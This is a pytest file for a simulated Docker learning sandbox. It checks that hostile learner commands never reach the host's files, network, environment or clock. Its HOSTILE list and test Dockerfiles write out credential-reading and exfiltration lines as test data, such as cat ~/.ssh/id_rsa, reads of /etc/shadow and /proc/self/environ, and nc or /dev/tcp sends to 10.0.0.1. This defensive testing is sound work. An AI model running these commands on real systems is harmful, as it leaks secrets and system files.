"""The sandbox never touches the host: hostile command lines (mounts of ``/``, Dockerfiles and build contexts outside
the working directory, absurd paths, huge secrets, registries on the network) are answered from the simulated world
only. A tripwire replaces every way Python reaches the host's files, processes, network, clock and terminal; any
call while a command runs fails the test, even if the sandbox catches the exception.

The tripwire is armed after ``import sandbox`` and after one warm-up world has run every kind of command, so the
one-time loads (the Hub catalogue, the help texts, lazily imported modules) are done: what remains is what a learner's
line can make the core do.
"""

from __future__ import annotations

import builtins
import contextlib
import io
import os
import shutil
import socket
import subprocess
import sys
import time

import pytest

from sandbox import Result, Sandbox
from sandbox.quiz import Grader, parse

DOCKERFILE = 'FROM alpine\nCOPY . /app\nCMD ["cat", "/app/hello.txt"]\n'
WARM_UP = (
    "docker pull alpine", "docker build -t myimage .", "docker run --rm myimage", "docker run -d --name web nginx",
    "docker exec web echo hi", "docker logs web", "docker ps -a", "docker images", "docker inspect web",
    "docker image inspect alpine", "docker history alpine", "docker tag alpine learner/a:1", "docker push learner/a:1",
    "docker login -u learner --password-stdin", "docker push learner/a:1", "docker logout", "docker rmi learner/a:1",
    "docker stop web", "docker rm web", "docker run -d -p 5000:5000 registry:2", "docker version", "docker info",
    "docker image prune -f", "docker run --help", "docker bogus", "echo hi | cat", "ls", "cd ..", "pwd",
    "docker run node:20-alpine node -e 'console.log(1)'", "docker run python:3.12-slim python -c 'print(1)'",
    "docker images --format '{{json .}}'", "docker run alpine sh -c 'printf \"%s\\n\" a'", "docker search alpine",
)

#: Names of everything the tripwire replaces, as ``module.attribute``.
TRAPS = (
    "builtins.open", "builtins.print", "builtins.input", "io.open", "io.open_code", "os.open", "os.listdir",
    "os.scandir", "os.stat", "os.lstat", "os.access", "os.getcwd", "os.chdir", "os.mkdir", "os.makedirs",
    "os.remove", "os.unlink", "os.rmdir", "os.rename", "os.replace", "os.walk", "os.system", "os.popen",
    "os.execv", "os.execve", "os.execvp", "os.fork", "os.kill", "os.posix_spawn", "os.getenv", "os.putenv",
    "os.urandom", "os.path.expanduser", "shutil.copyfile", "shutil.rmtree", "subprocess.Popen", "subprocess.run",
    "socket.socket", "socket.create_connection", "socket.getaddrinfo", "socket.gethostbyname", "socket.gethostname",
    "time.sleep",
)  # fmt: skip
MODULES = {"builtins": builtins, "io": io, "os": os, "os.path": os.path, "shutil": shutil, "subprocess": subprocess,
           "socket": socket, "time": time}


class HostTouched(BaseException):
    """The core reached the host. A BaseException, so ``except Exception`` in the core cannot hide it."""


class Tripwire:
    """Replaces `TRAPS` with functions that record the call and raise `HostTouched` while armed."""

    def __init__(self, monkeypatch: pytest.MonkeyPatch) -> None:
        self.armed = False
        self.touched: list[str] = []
        for name in TRAPS:
            module_name, _, attribute = name.rpartition(".")
            module = MODULES[module_name]
            monkeypatch.setattr(module, attribute, self._trap(name, getattr(module, attribute)))
        environ = _TrappedEnviron(self, os.environ)
        monkeypatch.setattr(os, "environ", environ)

    def _trap(self, name: str, original):
        def trapped(*args, **kwargs):
            if self.armed:
                shown = ", ".join(repr(arg)[:80] for arg in args[:2])
                self.touched.append(f"{name}({shown})")
                raise HostTouched(self.touched[-1])
            return original(*args, **kwargs)

        return trapped

    @contextlib.contextmanager
    def arm(self):
        """Trip on any host access inside the block; fail if anything was touched, caught or not."""
        self.touched.clear()
        self.armed = True
        try:
            yield
        except HostTouched:
            pass
        finally:
            self.armed = False
        assert not self.touched, f"the sandbox reached the host: {self.touched}"


class _TrappedEnviron(dict):
    """``os.environ`` whose reads trip while armed (the host's environment is host state too)."""

    def __init__(self, tripwire: Tripwire, original) -> None:
        super().__init__(original)
        self._tripwire = tripwire

    def _check(self, key) -> None:
        if self._tripwire.armed:
            self._tripwire.touched.append(f"os.environ[{key!r}]")
            raise HostTouched(self._tripwire.touched[-1])

    def __getitem__(self, key):
        self._check(key)
        return super().__getitem__(key)

    def get(self, key, default=None):
        self._check(key)
        return super().get(key, default)

    def __contains__(self, key) -> bool:
        self._check(key)
        return super().__contains__(key)


def _host_secrets() -> tuple[str, ...]:
    """Text only the host has: its password file and its name (read before any tripwire is armed)."""
    found = [socket.gethostname()]
    with contextlib.suppress(OSError):
        with open("/etc/passwd", encoding="utf-8") as passwd:
            found.append(passwd.read())
    return tuple(text for text in found if len(text) > 3)


HOST_SECRETS = _host_secrets()


def _warm() -> Sandbox:
    from sandbox.cli import spec

    for path in spec.paths():  # the client's help tables are package data, read once on first use
        spec.help_text(path)
    sb = Sandbox()
    sb.write_file("Dockerfile", DOCKERFILE)
    sb.write_file("hello.txt", "hi\n")
    for line in WARM_UP:
        sb.run(line, stdin="s3cret-pass")
    return sb


WARMED = _warm()


@pytest.fixture
def tripwire(monkeypatch: pytest.MonkeyPatch) -> Tripwire:
    return Tripwire(monkeypatch)


HOSTILE = (
    # the host's root filesystem, mounted or named
    "docker run -v /:/host alpine cat /host/etc/passwd",
    "docker run --mount type=bind,source=/,target=/host alpine ls /host",
    "docker run -v /etc:/etc:ro alpine cat /etc/hostname",
    "docker run --privileged --pid=host alpine cat /proc/1/environ",
    "docker run alpine cat /etc/shadow",
    "docker run alpine sh -c 'cat /etc/passwd; ls /root; cat /proc/self/environ'",
    "docker run --env-file /etc/environment alpine env",
    "docker run --cidfile /tmp/cid alpine true",
    "cat /etc/passwd",
    "cat ~/.ssh/id_rsa",
    "cat /proc/self/environ",
    "ls /",
    "ls -a /etc",
    "cd / && ls -a && cd /etc && pwd",
    "echo secret > /etc/passwd",
    "docker images > /tmp/out.txt",
    # the shell's own ways in: redirections, substitutions, variables, builtins that read files
    "cat < /etc/passwd",
    "echo $(cat /etc/shadow) `ls /root`",
    "echo hi > /dev/tcp/10.0.0.1/80",
    "echo $PATH $USER $SHELL $PWD $HOSTNAME $TERM $LANG $SSH_AUTH_SOCK $AWS_SECRET_ACCESS_KEY",
    "X=$(docker ps -aq) && echo $X > ~/.bashrc && source ~/.bashrc",
    ". /etc/profile",
    "eval 'cat /etc/passwd'",
    "exec bash -c 'cat /etc/passwd'",
    "env",
    "docker run alpine sh -c 'cat < /etc/passwd; echo $(cat /proc/self/environ)'",
    # build contexts and Dockerfiles outside the working directory
    "docker build -f /etc/passwd .",
    "docker build -f ../../../../etc/passwd .",
    "docker build /etc",
    "docker build ../..",
    "docker build /",
    "docker build https://github.com/docker/getting-started.git",
    "docker build --secret id=key,src=/etc/shadow .",
    "docker build --ssh default .",
    "docker build -o type=local,dest=/tmp/out .",
    "docker build -t escape -f escape.Dockerfile .",
    "docker build -t add-url -f add-url.Dockerfile .",
    "docker build -t runs -f run.Dockerfile .",
    "docker load -i /etc/passwd",
    "docker import /etc/passwd",
    "docker save -o /tmp/alpine.tar alpine",
    "docker cp web:/etc/passwd /tmp/passwd",
    # absurd paths
    "cat '\x00'",
    "ls " + "a" * 10_000,
    "cd " + "/.." * 3_000,
    "docker build " + "x/" * 20_000,
    "docker build -f " + "\x00" * 100 + " .",
    "docker run -v " + "/" * 30_000 + ":/x alpine ls /x",
    # the network: registries, DNS, sockets
    "docker pull registry.example.com/team/app:1.0",
    "docker pull 127.0.0.1:5000/app",
    "docker push localhost:5001/app",
    "docker login registry.example.com -u u -p p",
    "docker -H tcp://10.0.0.1:2375 ps",
    "docker --context remote ps",
    "docker --config /etc ps",
    "docker --tlsverify --tlscacert /etc/ssl/certs/ca.pem ps",
    "docker run -d -p 80:80 nginx",
    "docker run alpine wget -qO- http://example.com",
    "docker run alpine ping -c1 8.8.8.8",
    "docker search nginx",
    # time: nothing may really wait
    "docker run alpine sleep 100000",
    "docker run -d --name sleeper node:20-alpine node -e 'setInterval(() => {}, 1000)' && docker stop sleeper",
    "docker run python:3.12-slim python -c \"print(open('/etc/passwd').read())\"",
    "docker run python:3.12-slim python -c \"__import__('os').system('id')\"",
    "docker run node:20-alpine node -e \"console.log(require('fs').readFileSync('/etc/passwd', 'utf8'))\"",
)


@pytest.mark.parametrize("line", HOSTILE, ids=[line[:60] for line in HOSTILE])
def test_hostile_line_stays_inside_the_simulation(tripwire: Tripwire, line: str) -> None:
    sb = WARMED.fork()
    sb.write_file("escape.Dockerfile", "FROM alpine\nCOPY ../../etc/passwd /x\nADD /etc/shadow /y\n")
    sb.write_file("add-url.Dockerfile", "FROM alpine\nADD https://example.com/install.sh /install.sh\n")
    sb.write_file("run.Dockerfile", "FROM alpine\nRUN cat /etc/shadow /proc/self/environ > /leak; env; ls -a /root\n"
                  "RUN apk add curl && wget -qO- http://example.com && nc 10.0.0.1 80 < /etc/passwd\n"
                  "RUN sleep 100000\n")
    with tripwire.arm():
        result = sb.run(line)
    assert isinstance(result, Result)
    assert "Traceback" not in result.output
    assert not any(secret in result.output for secret in HOST_SECRETS), "the host's own text came through"


def test_a_container_terminal_stays_inside_the_simulation(tripwire: Tripwire) -> None:
    """The fourth place the shell runs: a terminal attached with docker run -it, typed into line by line."""
    sb = WARMED.fork()
    with tripwire.arm():
        attached = sb.attach(sb.run("docker run -it alpine sh", terminal=True))
        for line in ("cat /etc/passwd /etc/shadow", "env", "cd / && ls -a", "echo $(cat /proc/self/environ)",
                     "sleep 100000", "wget -qO- http://example.com", "exit"):
            result = attached.run(line)
            assert "Traceback" not in result.output
            assert not any(secret in result.output for secret in HOST_SECRETS), "the host's own text came through"


def test_a_container_reads_its_image_passwd_not_the_hosts(tripwire: Tripwire) -> None:
    sb = WARMED.fork()
    with tripwire.arm():
        result = sb.run("docker run --rm alpine cat /etc/passwd")
    assert result.exit_code == 0
    assert result.stdout.startswith("root:x:0:0:root:/root:/bin/sh\n")


def test_copy_from_outside_the_context_is_a_buildkit_error_from_the_simulated_context(tripwire: Tripwire) -> None:
    sb = WARMED.fork()
    sb.write_file("Dockerfile", "FROM alpine\nCOPY ../../etc/passwd /x\n")
    with tripwire.arm():
        result = sb.run("docker build -t escape .")
    assert result.exit_code == 1
    assert '"/etc/passwd": not found' in result.stderr


def test_a_one_megabyte_password_on_stdin_is_refused_inside_the_simulation(tripwire: Tripwire) -> None:
    sb = WARMED.fork()
    secret = "x" * (1024 * 1024)
    with tripwire.arm():
        result = sb.run("docker login -u learner --password-stdin", stdin=secret)
    assert result.exit_code == 1
    assert "incorrect username or password" in result.stderr
    assert sb.logged_in_user() is None


def test_a_one_megabyte_password_on_the_command_line_hits_the_line_cap(tripwire: Tripwire) -> None:
    sb = WARMED.fork()
    with tripwire.arm():
        result = sb.run("docker login -u learner -p " + "x" * (1024 * 1024))
    assert result.exit_code == 126
    assert "command line too long" in result.stderr


def test_a_new_world_and_a_fork_need_no_host(tripwire: Tripwire) -> None:
    with tripwire.arm():
        sb = Sandbox(seed="isolated")
        sb.write_file("Dockerfile", DOCKERFILE)
        trial = sb.fork()
        trial.host("server").run("docker pull alpine")
    assert trial.host("server").has_image("alpine") and not sb.host("server").has_image("alpine")


QUIZ = """\
quiz: hostile
title: A quiz whose commands reach for the host
questions:
  - id: mount-root
    kind: which-fails
    prompt: Which command fails?
    files:
      Dockerfile: |
        FROM alpine
        COPY ../../etc/passwd /x
    setup:
      - docker pull alpine
    choices:
      a: docker run -v /:/host alpine cat /host/etc/passwd
      b: docker run alpine true
    answer: a
  - id: task
    kind: task
    prompt: Push alpine as learner/alpine:1.0.
    goal:
      - pushed: learner/alpine:1.0
    solution:
      - docker pull alpine
      - docker tag alpine learner/alpine:1.0
      - {run: docker login -u learner --password-stdin, stdin: s3cret-pass}
      - docker push learner/alpine:1.0
"""


def test_the_grader_replays_hostile_quizzes_without_the_host(tripwire: Tripwire) -> None:
    quiz = parse(QUIZ, "hostile.yaml")
    grader = Grader()
    with tripwire.arm():
        findings = grader.check(quiz)
        graded = grader.grade_quiz(quiz, {"mount-root": "a", "task": ["docker build /etc", "cat /etc/passwd"]},
                                   learner="mallory")
    assert len(findings) == 2
    assert graded.max_score == 2


def test_the_tripwire_trips() -> None:
    """The tripwire itself: a direct host access while armed fails, even when something catches it."""
    patch = pytest.MonkeyPatch()
    try:
        wire = Tripwire(patch)
        with pytest.raises(AssertionError, match=r"builtins.open\('/etc/passwd'\)"):
            with wire.arm():
                try:
                    open("/etc/passwd")  # noqa: SIM115 - the point is the call
                except Exception:  # noqa: BLE001 - a core that swallows errors must still be caught
                    pass
        with pytest.raises(AssertionError, match=r"os.environ\['HOME'\]"):
            with wire.arm():
                os.environ.get("HOME")
    finally:
        patch.undo()
    assert sys.modules["os"].environ is not None
